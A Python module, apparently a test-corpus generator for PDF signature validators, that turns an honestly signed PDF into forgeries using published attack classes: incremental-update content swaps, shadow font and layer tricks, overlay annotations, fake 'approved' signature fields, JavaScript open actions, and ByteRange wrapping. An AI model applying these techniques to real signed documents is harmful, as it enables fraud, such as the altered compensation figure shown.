"""Generators of forged PDFs, by the classes that the literature names.

ISA, SWA, USF: Mladenov et al., CCS 2019. Shadow attacks: Mainka et al., NDSS 2021. Evil annotation
and sneaky signature: Mainka et al., IEEE S&P 2021. Each takes an honest signed file.
"""

import io
import re
from collections.abc import Callable
from types import MappingProxyType
from typing import Final

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

Forge = Callable[[bytes], bytes]
Edit = Callable[[IncrementalPdfFileWriter], None]


def updated(signed: bytes, edit: Edit) -> bytes:
    """Append an incremental update that `edit` makes."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)
    edit(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _page(writer: IncrementalPdfFileWriter, number: int = 0) -> generic.DictionaryObject:
    ref, _ = writer.find_page_for_modification(number)
    page = ref.get_object()
    writer.mark_update(ref)
    assert isinstance(page, generic.DictionaryObject)
    return page


def _stream(data: bytes, **entries: generic.PdfObject) -> generic.StreamObject:
    keys = {pdf_name("/" + key): value for key, value in entries.items()}
    return generic.StreamObject(keys, stream_data=data)


def _box(*numbers: int) -> generic.ArrayObject:
    return generic.ArrayObject(generic.NumberObject(n) for n in numbers)


_WHITE: Final = b"1 g 0 0 595 842 re f\n"


def replace_page_content(w: IncrementalPdfFileWriter) -> None:
    lie = b"BT /F1 18 Tf 72 700 Td (Muc boi thuong: 900 trieu dong) Tj ET"
    _page(w)["/Contents"] = w.add_object(_stream(lie))


def overlay_content(w: IncrementalPdfFileWriter) -> None:
    page = _page(w)
    old = page.raw_get("/Contents")
    page["/Contents"] = generic.ArrayObject([old, w.add_object(_stream(_WHITE))])


def remove_page(w: IncrementalPdfFileWriter) -> None:
    tree = w.root["/Pages"]
    kids = generic.ArrayObject(list(tree["/Kids"])[:1])
    tree["/Kids"], tree["/Count"] = kids, generic.NumberObject(1)
    w.mark_update(w.root.raw_get("/Pages"))


def swap_pages(w: IncrementalPdfFileWriter) -> None:
    tree = w.root["/Pages"]
    raw = [tree["/Kids"].raw_get(n) for n in range(2)]
    tree["/Kids"] = generic.ArrayObject(reversed(raw))
    w.mark_update(w.root.raw_get("/Pages"))


def shrink_media_box(w: IncrementalPdfFileWriter) -> None:
    _page(w)["/MediaBox"] = _box(0, 500, 595, 842)


def turn_page(w: IncrementalPdfFileWriter) -> None:
    _page(w)["/Rotate"] = generic.NumberObject(180)


def redefine_font(w: IncrementalPdfFileWriter) -> None:
    """Shadow, replace: the same codes, another face."""
    font = _page(w)["/Resources"]["/Font"]["/F1"]
    font["/BaseFont"] = pdf_name("/ZapfDingbats")
    w.mark_update(font.container_ref or w.root.container_ref)


def _annotation(subtype: str) -> Edit:
    def edit(w: IncrementalPdfFileWriter) -> None:
        look = w.add_object(_stream(_WHITE, Subtype=pdf_name("/Form"), BBox=_box(0, 0, 595, 842)))
        note = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name(subtype),
                pdf_name("/Rect"): _box(0, 300, 595, 842),
                pdf_name("/Contents"): pdf_string("x"),
                pdf_name("/F"): generic.NumberObject(4),
                pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): look}),
            }
        )
        page = _page(w)
        old = list(page["/Annots"]) if "/Annots" in page else []
        del old
        row = [page["/Annots"].raw_get(n) for n in range(len(page["/Annots"]))]
        page["/Annots"] = generic.ArrayObject([*row, w.add_object(note)])

    return edit


def open_action(w: IncrementalPdfFileWriter) -> None:
    w.root["/OpenAction"] = generic.DictionaryObject(
        {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): pdf_string("app.alert(1)")}
    )
    w.update_root()


def unknown_catalog_key(w: IncrementalPdfFileWriter) -> None:
    w.root["/Evil"] = pdf_string("x")
    w.update_root()


def optional_content(w: IncrementalPdfFileWriter) -> None:
    """Shadow, hide and replace: layers that can be turned off."""
    w.root["/OCProperties"] = generic.DictionaryObject({pdf_name("/OCGs"): generic.ArrayObject()})
    w.update_root()


def drop_form(w: IncrementalPdfFileWriter) -> None:
    del w.root["/AcroForm"]
    w.update_root()


def fill_field(w: IncrementalPdfFileWriter) -> None:
    field = w.root["/AcroForm"]["/Fields"][0]
    field["/V"] = pdf_string("900 trieu dong")
    w.mark_update(w.root["/AcroForm"]["/Fields"].raw_get(0))


def hide_field(w: IncrementalPdfFileWriter) -> None:
    field = w.root["/AcroForm"]["/Fields"][0]
    field["/F"] = generic.NumberObject(2)
    w.mark_update(w.root["/AcroForm"]["/Fields"].raw_get(0))


def new_xfa(w: IncrementalPdfFileWriter) -> None:
    w.root["/AcroForm"]["/XFA"] = pdf_string("<xdp/>")
    w.mark_update(w.root.raw_get("/AcroForm"))


def add_text_field(w: IncrementalPdfFileWriter) -> None:
    field = w.add_object(
        generic.DictionaryObject(
            {pdf_name("/FT"): pdf_name("/Tx"), pdf_name("/T"): pdf_string("moi")}
        )
    )
    w.root["/AcroForm"]["/Fields"].append(field)
    w.mark_update(w.root.raw_get("/AcroForm"))


def unsigned_field_with_a_look(w: IncrementalPdfFileWriter) -> None:
    """Add a signature field that nobody signed and that shows a text of its own."""
    lie = b"BT /F1 18 Tf 0 0 Td (DA DUYET) Tj ET"
    look = w.add_object(_stream(lie, Subtype=pdf_name("/Form"), BBox=_box(0, 0, 100, 30)))
    page = _page(w)
    field = w.add_object(
        generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/Widget"),
                pdf_name("/FT"): pdf_name("/Sig"),
                pdf_name("/T"): pdf_string("ChoKy"),
                pdf_name("/Rect"): _box(72, 150, 172, 180),
                pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): look}),
            }
        )
    )
    row = [page["/Annots"].raw_get(n) for n in range(len(page["/Annots"]))]
    page["/Annots"] = generic.ArrayObject([*row, field])
    w.root["/AcroForm"]["/Fields"].append(field)
    w.mark_update(w.root.raw_get("/AcroForm"))


def certify_later(w: IncrementalPdfFileWriter) -> None:
    """Declare the last signature to be the one that sets the terms."""
    value = w.root["/AcroForm"]["/Fields"][-1].raw_get("/V")
    w.root["/Perms"] = generic.DictionaryObject({pdf_name("/DocMDP"): value})
    w.update_root()


UPDATES: Final = MappingProxyType(
    {
        edit.__name__: edit
        for edit in (
            *(replace_page_content, overlay_content, remove_page, swap_pages),
            *(shrink_media_box, turn_page, redefine_font, open_action, unknown_catalog_key),
            *(optional_content, drop_form, fill_field, hide_field, new_xfa, add_text_field),
            unsigned_field_with_a_look,
        )
    }
    | {f"annotation{kind}": _annotation(kind) for kind in ("/FreeText", "/Stamp", "/Redact")}
)


def trailing_bytes(signed: bytes) -> bytes:
    return signed + b"\n% something else\n"


def flipped_byte(signed: bytes) -> bytes:
    place = signed.index(b"500 trieu") if b"500 trieu" in signed else 20
    return signed[:place] + bytes([signed[place] ^ 1]) + signed[place + 1 :]


def _with_byte_range(signed: bytes, numbers: bytes) -> bytes:
    found = re.search(rb"/ByteRange\s*\[[^\]]*\]", signed)
    assert found
    return signed.replace(found[0], (b"/ByteRange " + numbers).ljust(len(found[0])), 1)


def without_byte_range(signed: bytes) -> bytes:
    return signed.replace(b"/ByteRange", b"/ByteRangX", 1)


def zeroed_contents(signed: bytes) -> bytes:
    found = re.search(rb"/Contents\s*<([0-9a-fA-F]+)>", signed)
    assert found
    return signed[: found.start(1)] + b"0" * len(found[1]) + signed[found.end(1) :]


def broken_signature_value(signed: bytes) -> bytes:
    found = re.search(rb"/Contents\s*<([0-9a-fA-F]+?)(?:00)*>", signed)
    assert found
    place = found.end(1) - 4
    return (
        signed[:place] + (b"0" if signed[place : place + 1] != b"0" else b"1") + signed[place + 1 :]
    )


def wrapped(signed: bytes) -> bytes:
    """Signature wrapping: more than /Contents in the gap that the byte range leaves."""
    found = re.search(rb"/Contents\s*<([0-9a-fA-F]+?)((?:00){64,})>", signed)
    assert found
    filler = b"> /Evil (x) /Contents <"
    start = found.end(1) + 8
    start += (start - found.start(1)) % 2
    return signed[:start] + filler + signed[start + len(filler) :]


def ambiguous_update(signed: bytes) -> bytes:
    """Append a catalog that names its form twice: which one counts depends on the viewer."""
    root = re.findall(rb"/Root (\d+) 0 R", signed)[-1]
    size = max(int(n) for n in re.findall(rb"/Size (\d+)", signed))
    body = re.search(rb"\n%b 0 obj\s*<<(.*?)>>\s*endobj" % root, signed, re.DOTALL)
    start = int(signed.rsplit(b"startxref", 1)[1].split()[0])
    if body is None:  # the catalog is in an object stream
        return signed + b"\n1 0 obj\nnull\nendobj\n"
    catalog = b"%b 0 obj\n<< /PageLayout /OneColumn /PageLayout /SinglePage %b >>\nendobj\n"
    place = len(signed)
    update = catalog % (root, body[1])
    table = b"xref\n%b 1\n%010d 00000 n \n" % (root, place)
    trailer = b"trailer\n<< /Size %d /Root %b 0 R /Prev %d >>\n" % (size, root, start)
    end = b"startxref\n%d\n%%%%EOF\n" % (place + len(update))
    return signed + update + table + trailer + end


def appended_without_xref(signed: bytes) -> bytes:
    return signed + b"\n4 0 obj\n<< /Length 0 >>\nstream\n\nendstream\nendobj\n%%EOF\n"


BYTES: Final = MappingProxyType(
    {
        "trailing_bytes": trailing_bytes,
        "flipped_byte": flipped_byte,
        "byte_range_empty": lambda signed: _with_byte_range(signed, b"[]"),
        "byte_range_null": lambda signed: _with_byte_range(signed, b"null"),
        "byte_range_zero": lambda signed: _with_byte_range(signed, b"[0 0 0 0]"),
        "byte_range_negative": lambda signed: _with_byte_range(signed, b"[0 -1 -1 0]"),
        "without_byte_range": without_byte_range,
        "zeroed_contents": zeroed_contents,
        "broken_signature_value": broken_signature_value,
        "wrapped": wrapped,
        "ambiguous_update": ambiguous_update,
        "appended_without_xref": appended_without_xref,
    }
)
